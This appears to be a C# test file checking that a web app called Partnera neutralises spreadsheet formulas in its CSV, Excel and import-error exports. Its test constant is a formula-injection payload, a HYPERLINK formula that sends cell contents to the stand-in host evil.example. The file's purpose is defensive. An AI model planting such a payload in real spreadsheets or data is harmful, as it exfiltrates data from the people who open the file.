using System.Globalization;
using System.IO.Compression;
using System.Net;
using System.Text;
using CsvHelper;
using Microsoft.EntityFrameworkCore;
using Partnera.Data;
using Partnera.Features.Needs.Answers;
using Partnera.Infrastructure.Text;
using Partnera.Tests.Features.Needs;
using Partnera.Tests.Infrastructure;

namespace Partnera.Tests.Platform;

/// <summary>
/// Text someone typed that a spreadsheet would run as a formula leaves the app neutralised in every file it produces:
/// with a leading single quote, in a quoted field; the app's own numbers stay numbers.
/// </summary>
public sealed class FormulaInjectionTests(TestApps apps)
{
    private const string Formula = """=HYPERLINK("http://evil.example/?d="&A1,"Click me")""";

    [Theory, ClassData(typeof(Databases))]
    public async Task A_service_named_as_a_formula_is_text_in_the_public_HSDS_package(DatabaseProvider provider)
    {
        var app = await apps.GetAsync(provider);
        var organisation = await app.WithDbAsync(db => db.Organisations.Where(o => o.ShortName == "ЦСССДМ").Select(o => o.Id).SingleAsync());
        var id = Guid.NewGuid();
        var staff = app.Browser("en");
        await staff.SignInAsync("provider@partnera.demo");
        var json = System.Text.Json.JsonSerializer.Serialize(new[] { new { id, name = Formula, status = "active", description = "-1+2" } });
        var imported = await staff.SubmitAsync($"/Directory/Manage/Import?organisationId={organisation}", new Dictionary<string, string[]>(), "#import-form",
            files: new Dictionary<string, (string, byte[])> { ["Upload"] = ("services.json", Encoding.UTF8.GetBytes(json)) });
        Assert.NotNull(Pages.Parse(await imported.TextAsync()).QuerySelector("#import-done"));

        using var zip = new ZipArchive(new MemoryStream(await app.CreateClient().GetByteArrayAsync("/api/hsds/export.zip")));
        var text = await new StreamReader(zip.GetEntry("services.csv")!.Open()).ReadToEndAsync();
        Assert.Contains("\"'=HYPERLINK(\"\"http://evil.example/?d=\"\"&A1,\"\"Click me\"\")\"", text, StringComparison.Ordinal);
        var row = ReadCsv(text).Single(r => r["id"] == id.ToString());
        Assert.Equal("'" + Formula, row["name"]);
        Assert.Equal("'-1+2", row["description"]);
    }

    [Theory, ClassData(typeof(Databases))]
    public async Task A_community_named_as_a_formula_is_text_in_the_Excel_report_and_counts_stay_numbers(DatabaseProvider provider)
    {
        var app = await apps.GetAsync(provider);
        var (campaignId, place, _) = await NeedsCampaigns.TestvilleAsync(app);
        await app.WithDbAsync(async db =>
        {
            var community = await db.Territories.SingleAsync(t => t.Id == place);
            community.Name = new MultilingualText(Formula);
            return await db.SaveChangesAsync();
        });
        await NeedsCampaigns.HouseholdsAsync(app, campaignId, place, [new Answer { QuestionCode = "D3", OptionCode = "021.0" }]);
        var specialist = app.Browser("en");
        await specialist.SignInAsync("specialist@partnera.demo");
        var report = await specialist.GetPageAsync($"/Needs/Report/{campaignId}");
        var excel = await specialist.GetAsync(report.QuerySelector("#report-excel")!.GetAttribute("href")!);
        Assert.Equal(HttpStatusCode.OK, excel.StatusCode);
        using var workbook = new MemoryStream(await excel.Content.ReadAsByteArrayAsync());
        var responses = MiniExcelLibs.MiniExcel.Query(workbook, useHeaderRow: true, sheetName: "Responses").Cast<IDictionary<string, object?>>().Single();
        Assert.Equal("'" + Formula, responses["Community"]);
        Assert.Equal(30_000d, Convert.ToDouble(responses["Population"], CultureInfo.InvariantCulture));
    }

    [Theory, ClassData(typeof(Databases))]
    public async Task A_column_named_as_a_formula_is_text_in_the_problems_file_of_an_import(DatabaseProvider provider)
    {
        var app = await apps.GetAsync(provider);
        var staff = app.Browser("en");
        await staff.SignInAsync("provider@partnera.demo");
        var csv = $"\"{Formula.Replace("\"", "\"\"", StringComparison.Ordinal)}\",given_name\n,Olena\n";
        var uploaded = await staff.SubmitAsync("/People/Import", new Dictionary<string, string[]>(), "#upload-form", "Upload",
            new Dictionary<string, (string, byte[])> { ["Upload"] = ("list.csv", Encoding.UTF8.GetBytes(csv)) });
        Assert.Equal(HttpStatusCode.Redirect, uploaded.StatusCode);
        var withUpload = uploaded.Headers.Location!.OriginalString;
        Assert.Equal(HttpStatusCode.Redirect, (await staff.SubmitAsync(withUpload, new Dictionary<string, string[]> { ["Targets"] = ["family_name", "given_name"] }, "#mapping-form")).StatusCode);
        var check = await staff.GetPageAsync(withUpload);
        var problems = await staff.GetStringAsync(check.QuerySelector("#errors-download")!.GetAttribute("href")!);
        var row = ReadCsv(problems.TrimStart('\uFEFF')).First();
        Assert.Equal(("2", "'" + Formula), (row["row"], row["column"]));
    }

    private static List<Dictionary<string, string>> ReadCsv(string text)
    {
        using var csv = new CsvReader(new StringReader(text), CultureInfo.InvariantCulture);
        csv.Read();
        csv.ReadHeader();
        var rows = new List<Dictionary<string, string>>();
        while (csv.Read()) rows.Add(csv.HeaderRecord!.ToDictionary(h => h, h => csv.GetField(h) ?? ""));
        return rows;
    }
}
